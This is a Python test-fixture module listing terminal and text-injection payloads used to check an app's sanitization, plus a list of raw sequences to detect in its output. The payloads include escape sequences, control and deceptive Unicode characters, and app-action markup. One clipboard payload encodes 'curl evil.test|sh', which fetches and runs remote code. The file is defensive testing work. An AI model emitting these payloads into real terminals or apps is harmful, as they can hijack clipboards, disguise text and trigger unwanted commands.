"""Payloads by which recorded text might steer a terminal, hide, or reach the app's actions."""

from typing import Final

_OSC: Final = {
    "osc 52 clipboard": "52;c;Y3VybCBldmlsLnRlc3R8c2g=",
    "osc 0 title": "0;pwned-title",
    "osc 8 link": "8;;https://evil.test/",
    "osc 9 notify": "9;pwned-notice",
    "osc 1337 file": "1337;File=inline=1:AAAA",
}

PAYLOADS: Final[tuple[tuple[str, str], ...]] = (
    *((f"{name}, BEL", f"\x1b]{body}\x07") for name, body in _OSC.items()),
    *((f"{name}, ST", f"\x1b]{body}\x1b\\") for name, body in _OSC.items()),
    ("csi clear", "\x1b[2J\x1b[H"),
    ("sgr", "\x1b[31;7mred\x1b[0m"),
    ("decset 1049 off", "\x1b[?1049l"),
    ("decset 1000", "\x1b[?1000h"),
    ("decset 2004", "\x1b[?2004h"),
    ("dsr", "\x1b[6n"),
    ("decrqss", "\x1bP$qm\x1b\\"),
    ("dcs sixel", "\x1bPq#0;2;0;0;0#0~~\x1b\\"),
    ("apc", "\x1b_Gf=24,a=T;AAAA\x1b\\"),
    ("c1 csi", "\x9b2J"),
    ("c1 osc", "\x9d0;pwned-title\x9c"),
    ("lone esc", "\x1b"),
    ("nul", "a\x00b"),
    ("bel", "a\x07b"),
    ("bs", "FAIL\x08\x08\x08\x08PASS"),
    ("cr", "FAIL\rPASS"),
    ("vt", "a\x0bb"),
    ("ff", "a\x0cb"),
    ("del", "a\x7fb"),
    ("so si", "\x0eqqq\x0f"),
    ("bidi override", "\u202egnp.exe\u202c"),
    ("bidi isolate", "\u2066hidden\u2069"),
    ("zero width", "pass\u200bed\u200c\u200d\u2060\ufeff"),
    ("tag characters", "ok\U000e0001\U000e0068\U000e0069\U000e007f"),
    ("variation selectors", "ok\ufe0f\U000e0100\U000e01ef"),
    ("fillers", "a\u3164b\uffa0c\u2800d\u034f"),
    ("line separators", "a\u2028b\u2029c\x85d"),
    ("lone surrogates", "a\ud800b\udfffc"),
    ("private use", "\ue000\U0010fffd"),
    ("combining flood", "e" + "\u0301" * 60),
    ("skin tones", "a\U0001f3fd\U0001f3fd"),
    ("click markup", "[@click=app.quit]x[/]"),
    ("closing markup", "[/x]"),
    ("link markup", "[link=https://evil.test/]x[/link]"),
    ("open markup", "[b"),
)
"""Name and payload, one for each class of danger; every one is a str, two hold lone surrogates."""

RAW_MARKS: Final = (
    "\x1b]52", "\x1b]0;pwned", "\x1b]8;", "\x1b]9;", "\x1b]1337", "\x1b[2J\x1b[H", "\x1b[31;7m",
    "\x1bP$q", "\x1bPq", "\x1b_G", "\x9b", "\x9d", "\x9c", "\x0e", "\x00",
)  # fmt: skip
"""Sequences that only a payload can have put into the output of an app, never the app itself."""
